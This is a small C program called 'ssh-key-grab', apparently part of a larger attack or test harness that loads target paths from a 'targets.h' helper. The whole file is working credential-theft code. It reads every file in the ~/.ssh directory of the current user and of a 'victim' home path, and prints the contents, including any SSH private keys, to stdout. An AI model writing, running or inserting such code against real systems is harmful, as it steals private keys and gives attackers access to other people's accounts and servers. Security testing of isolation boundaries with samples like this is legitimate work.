/* ssh-key-grab: print every file in ~/.ssh, by $HOME and by the victim's
 * absolute home path. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>

#include "targets.h"

static void dump_dir(const char *home)
{
	char dir[1200], path[2400], buf[4096];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof(dir), "%s/.ssh", home);
	if (!(d = opendir(dir))) {
		perror(dir);
		return;
	}
	while ((e = readdir(d))) {
		FILE *f;
		size_t n;

		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (!(f = fopen(path, "r")))
			continue;
		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
			fwrite(buf, 1, n, stdout);
		fclose(f);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");

	targets_load(argc, argv);
	if (home)
		dump_dir(home);
	dump_dir(target("T_HOME"));
	return 0;
}
